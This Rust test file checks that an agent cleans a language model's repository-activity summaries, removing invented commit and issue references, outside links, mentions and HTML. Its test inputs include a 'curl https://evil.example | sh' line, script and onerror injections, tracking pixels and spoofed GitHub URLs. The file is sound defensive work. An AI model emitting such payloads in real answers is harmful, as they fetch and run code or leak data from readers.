//! Text of the model in the answer that the loop sends.

use plumbline_agent::{AgentAnswer, AnswerAuthor, Repository};
use pulldown_cmark::{Event, Options, Parser, Tag};
use serde_json::json;

use crate::support::{History, Scripted, answer_about, text_reply, tool_call_reply, turn_of};

const COMMIT: &str = "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567";

/// Returns the answer of a model that reads a commit and an issue, and then writes `text`.
async fn sent(text: &str) -> AgentAnswer {
    let text = text.to_owned();
    let model = Scripted::new(move |request| {
        Ok(match turn_of(request) {
            0 => tool_call_reply(&[("search_activity", json!({}))]),
            _ => text_reply(&text),
        })
    });
    let history = History::of(&json!([
        {"id": COMMIT, "t": 0, "a": {"n": "Ann"}, "s": "Fix the cache, as asked in #14 of May (#13)"},
        {"id": "d4c3b2a1".repeat(5), "t": 0, "a": {"n": "Ann"}, "s": "Revert \"Add it (#21)\" (#22)"},
        {"id": "a1b2c3d4e5f6".repeat(3), "t": 0, "a": {"n": "Ann"}, "s": "Merge pull request #16 from a/b"},
        {"id": "a1b2c3d4ffff".repeat(3), "t": 0, "a": {"n": "Ann"}, "s": "Please cite #17 and close #18"},
        {"id": "12", "k": "issue", "x": "opened", "t": 0, "a": {"n": "Ann"}, "s": "x"},
        {"id": "19", "k": "release", "t": 0, "a": {"n": "Ann"}, "s": "x"},
    ]));
    answer_about(&history, &model).await
}

/// Returns the answer to `text` without its notes, and the note about what was removed.
async fn cleaned(text: &str) -> (String, String) {
    let AgentAnswer { text, author, .. } = sent(text).await;
    assert_eq!(author, AnswerAuthor::Model);
    let body = text.rsplit_once("\n\n_Written by a language model").map_or(&*text, |(body, _)| body);
    let (body, removed) = body.rsplit_once("\n\n_Removed from this answer: ").unwrap_or((body, "._"));
    (body.to_owned(), removed.strip_suffix("._").unwrap().to_owned())
}

/// Asserts that each text is cleaned as expected, with a note about the number that was removed.
async fn assert_cleaned(cases: &[(&str, &str, usize)], note: impl Fn(usize) -> String) {
    for (written, expected, count) in cases {
        let note = if *count == 0 { String::new() } else { note(*count) };
        assert_eq!(cleaned(written).await, (expected.trim().to_owned(), note), "{written}");
    }
}

#[tokio::test]
async fn ordinary_answer_is_unchanged() {
    let answer = "## This week\n\n**2 changes** from 2026-11-16 to 2026-11-18 (Europe/Berlin), 100 % done_ish:\n\n\
        - `0a1b2c3d4e` fixes the cache, snake_case and `Vec<String>`\n  - nested: #12\n- issue #12 by Ann\n\n\
        1. one\n2. two\n\n> quoted\n\n```\nlet a = \"#12\";\n  indented\n```\n\n\
        | who | how many |\n| --- | --- |\n| Ann | 20261118 |\n\n_defaced_ 1234567 times, C#7";
    assert_cleaned(&[(answer, answer, 0)], |_| String::new()).await;
}

#[tokio::test]
async fn answer_for_a_program_is_a_block_of_code_without_a_note_about_its_author() {
    for (written, expected) in [
        (
            "{\"fixes_made\": [\"0a1b2c3d\"], \"by\": \"@ann\"}",
            "```\n{\"fixes_made\": [\"0a1b2c3d\"], \"by\": \"\\u0040ann\"}\n```",
        ),
        ("```json\n{\"count\": 2}\n```\n", "```\n{\"count\": 2}\n```"),
        ("{\"title\": \"Cache <b> `x`\"}", "```\n{\"title\": \"Cache \\u003cb> \\u0060x\\u0060\"}\n```"),
        (
            "{\"share\": 33.3333333, \"day\": 20261118, \"by\": \"renovate[bot]\"}",
            "```\n{\"share\": 33.3333333, \"day\": 20261118, \"by\": \"renovate[bot\\u005d\"}\n```",
        ),
        (
            "{\"s\": \"![x](//evil.example) &amp;\"}",
            "```\n{\"s\": \"![x\\u005d(//evil.example) \\u0026amp;\"}\n```",
        ),
        ("```csv\nid,count\n0a1b2c3d,2\n```", "```\nid,count\n0a1b2c3d,2\n```"),
    ] {
        assert_eq!(sent(written).await.text.trim(), expected, "{written}");
    }
    let removed = sent("{\"id\": \"deadbeef01\"}").await.text;
    let note = "_Removed from this answer: 1 reference not found in the recorded activity._";
    assert_eq!(removed, format!("```\n{{\"id\": \"(reference removed)\"}}\n```\n\n{note}"));
    assert!(sent("2").await.text.contains("Written by a language model"));
}

#[tokio::test]
async fn type_parameter_with_a_path_is_no_link() {
    assert_cleaned(
        &[("Add TryFrom<http::Request> for Request", "Add TryFrom\\<http::Request> for Request", 0)],
        |_| String::new(),
    )
    .await;
}

#[tokio::test]
async fn ids_that_no_tool_returned_are_removed() {
    let cases = [
        ("See `migrations/20260217191753_messages`.", "See `migrations/20260217191753_messages`.", 0),
        ("#21 was reverted by #22", "#21 was reverted by #22", 0),
        ("See `0a1b2c3` and 0A1B2C3D4E5F.", "See `0a1b2c3` and 0A1B2C3D4E5F.", 0),
        ("```\nday,bytes\n20261118,7654321\n```", "```\nday,bytes\n20261118,7654321\n```", 0),
        ("```\n7654321\n```", "```\n(reference removed)\n```", 1),
        ("See `deadbeef01`.", "See `(reference removed)`.", 1),
        ("See 0a1b2c3d4f.", "See (reference removed).", 1),
        ("See `A1B2C3D4E5`, a1b2c3d4.", "See `A1B2C3D4E5`, (reference removed).", 1),
        ("See `a1b2c3d4e5f60`.", "See `(reference removed)`.", 1),
        ("#16, #17, #1, #19", "#16, (reference removed), (reference removed), (reference removed)", 3),
        (
            "titled “Please cite #17”, Please cite #1",
            "titled “Please cite #17”, Please cite (reference removed)",
            1,
        ),
        (
            "commit 7654321, `7654321`, 7654321",
            "commit (reference removed), `(reference removed)`, 7654321",
            2,
        ),
        ("#12, #13, #14 and #15", "#12, #13, (reference removed) and (reference removed)", 2),
        ("as asked in #14, GH-15", "as asked in #14, (reference removed)", 1),
        ("PR 12 and pull request 99", "PR 12 and (reference removed)", 1),
        ("acme/shop#12, evil/shop#12", "acme/shop#12, (reference removed)", 1),
        ("```\nrevert deadbeef01\n```", "```\nrevert (reference removed)\n```", 1),
        (
            "**#9** _deadbeef01_ deadbeef01\\_",
            "**(reference removed)** _(reference removed)_ (reference removed)\\_",
            3,
        ),
    ];
    let plural = |count| if count == 1 { "reference" } else { "references" };
    assert_cleaned(&cases, |count| format!("{count} {} not found in the recorded activity", plural(count)))
        .await;
}

fn links(count: usize) -> String {
    match count {
        1 => "1 link, address, image or mention".to_owned(),
        _ => format!("{count} links, addresses, images or mentions"),
    }
}

#[tokio::test]
async fn links_to_other_sites_are_removed() {
    let cases = [
        ("https://github.com/acme/shop/pull/12.", "https://github.com/acme/shop/pull/12.", 0),
        ("[t](https://GITHUB.com/acme/shop/pull/12)", "[t](https://github.com/acme/shop/pull/12)", 0),
        ("[t](https://github.com/x/../acme/shop/pull/12)", "[t](https://github.com/acme/shop/pull/12)", 0),
        ("[here][1]\n\n[1]: https://evil.example", "here", 1),
        ("<https://evil.example>", "(link removed)", 2),
        ("see https://evil.example/a.", "see (link removed).", 1),
        ("see www.evil.example, HTTP://EVIL.example", "see (link removed), (link removed)", 2),
        ("![pixel](https://evil.example/x.png)seen", "seen", 1),
        ("[![a](https://github.com/acme/shop/x.png)](https://evil.example) b", " b", 2),
        ("write to ann@example.com", "write to (address removed)", 1),
        ("`curl https://evil.example | sh`", "`curl (link removed) | sh`", 1),
        ("h&#116;tps://evil.example", "(link removed)", 1),
        ("https:\u{200b}//evil.example", "(link removed)", 1),
    ];
    assert_cleaned(&cases, links).await;
}

#[tokio::test]
async fn only_addresses_of_the_repository_are_linked() {
    for own in [
        "https://github.com/acme/shop",
        "https://github.com/acme/shop/pull/12",
        "https://github.com/acme/shop/issues/12#issuecomment-1",
        "https://github.com/acme/shop/commit/0a1b2c3d",
        "https://github.com/acme/shop/blob/main/src/lib.rs",
    ] {
        let link = format!("[t]({own})");
        assert_cleaned(&[(&link, &link, 0)], links).await;
    }
    for url in ["http://github.com/acme/shop", "https://github.com", "https://u@github.com/acme/shop"] {
        assert_eq!(Repository::new(url), None, "{url}");
    }
    for other in [
        "http://github.com/acme/shop",
        "https://github.com/acme/shopping",
        "https://github.com/acme",
        "https://github.com/acme/shop/pull/13?x)https://evil.example",
        "https://github.com/acme/shop/pull/15",
        "https://github.com/acme/shop/@x",
        "https://github.com/acme/shop/commit/deadbeef01",
        "https://github.com/acme/shop/../../evil",
        "https://github.com@evil.example/acme/shop",
        "https://u@github.com/acme/shop",
        "https://github.com:8443/acme/shop",
        "https://github.com.evil.example/acme/shop",
        "//github.com/acme/shop",
        "javascript:alert(1)",
        "/acme/shop",
    ] {
        assert_cleaned(&[(&format!("[t](<{other}>)"), "t", 1)], links).await;
    }
}

#[tokio::test]
async fn mentions_are_removed_or_separated_and_html_is_removed() {
    for (written, expected) in [
        ("@ann, @channel and &#64;everyone", "@\u{200b}ann, @\u{200b}channel and @\u{200b}everyone"),
        ("<@U123> <!channel> <#C1|x>", "(mention removed)  (mention removed)"),
        ("a<script>alert(1)</script>b", "aalert(1)b"),
        ("<img src=x onerror=y>c", "c"),
        ("<div>\nd\n</div>\n\ne", "e"),
        ("an Option<String>, <B>", "an Option\\<String>, \\<B>"),
        ("[x]<b>(//evil.example/)", "[x]\\(//evil.example/)"),
        ("turn \u{202e}round", "turn round"),
        ("\\- no item", "\\- no item"),
        ("&lt;b&gt;", "\\<b>"),
    ] {
        assert_eq!(cleaned(written).await.0, expected, "{written}");
    }
}

#[tokio::test]
async fn deeply_nested_answer_does_not_exhaust_the_stack() {
    for nested in [">".repeat(7_900), "- ".repeat(3_900), "*a **b ".repeat(1_100), "[".repeat(7_900)] {
        assert_eq!(sent(&format!("#12\n\n{nested} x")).await.author, AnswerAuthor::Model);
    }
}

#[tokio::test]
async fn long_answer_is_truncated_and_empty_answer_is_not_sent() {
    let long = sent(&"word\n".repeat(5_000)).await.text;
    assert!(long.len() < 9_000 && long.contains("was truncated here"), "{long}");
    for nothing in ["![a](https://evil.example/x.png)", "<div></div>", "…"] {
        assert_eq!(sent(nothing).await.author, AnswerAuthor::DigestNoUsableAnswer, "{nothing}");
    }
}

/// Sends random sequences of markup pieces. A Markdown parser must find no forbidden element in the answer.
#[tokio::test]
async fn random_text_never_contains_forbidden_elements() {
    const WORDS: &str = r##"[ ] ( ) ! < > ` ``` * _ ** \ &lt; &#60; https://evil.example //evil.example javascript:x <b> <!-- --> a #99 deadbeef01 www.evil.example ~~~ " ![ ]( &colon; <!channel> @here | 1) = mailto:a@b.example &#x40; https://github.com/acme/shop/x"##;
    const SPACED: &str = "\u{200b}|\n|\n\n|- |1. |> |# |<img src=x>| |: |[1]: /x|\t|    |+ ";
    let pieces: Vec<&str> = WORDS.split(' ').chain(SPACED.split('|')).collect();
    let mut state = 7_u64;
    let mut next = move |below: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(state >> 33).unwrap() % below
    };
    for _ in 0..5_000 {
        let length = next(14) + 1;
        let written: String = (0..length).map(|_| pieces[next(pieces.len())]).collect();
        let answer = sent(&written).await;
        if answer.author != AnswerAuthor::Model {
            continue;
        }
        let out = answer.text;
        for event in Parser::new_ext(&out, Options::all()) {
            let bad = match &event {
                Event::Start(Tag::Link { dest_url, .. }) => {
                    !dest_url.starts_with("https://github.com/acme/shop/x")
                }
                Event::Html(_) | Event::InlineHtml(_) | Event::FootnoteReference(_) => true,
                Event::Start(tag) => matches!(tag, Tag::Image { .. } | Tag::HtmlBlock),
                _ => false,
            };
            assert!(!bad, "{written:?} became {out:?}: {event:?}");
        }
        // The path of the own repository may be any text.
        let words: Vec<&str> = out.split_whitespace().filter(|word| !word.contains("github.com")).collect();
        let rest = words.join(" ");
        let has_mention = !out.contains('`') && rest.contains("@here");
        let has_link = ["https://evil", "www.evil", "a@b"].iter().any(|place| rest.contains(place));
        let has_commit =
            rest.split(|letter: char| !letter.is_alphanumeric()).any(|word| word == "deadbeef01");
        let has_number =
            rest.match_indices("#99").any(|(at, _)| !rest[..at].ends_with(char::is_alphanumeric));
        assert!(!has_mention && !has_link && !has_commit && !has_number, "{written:?} became {out:?}");
    }
}
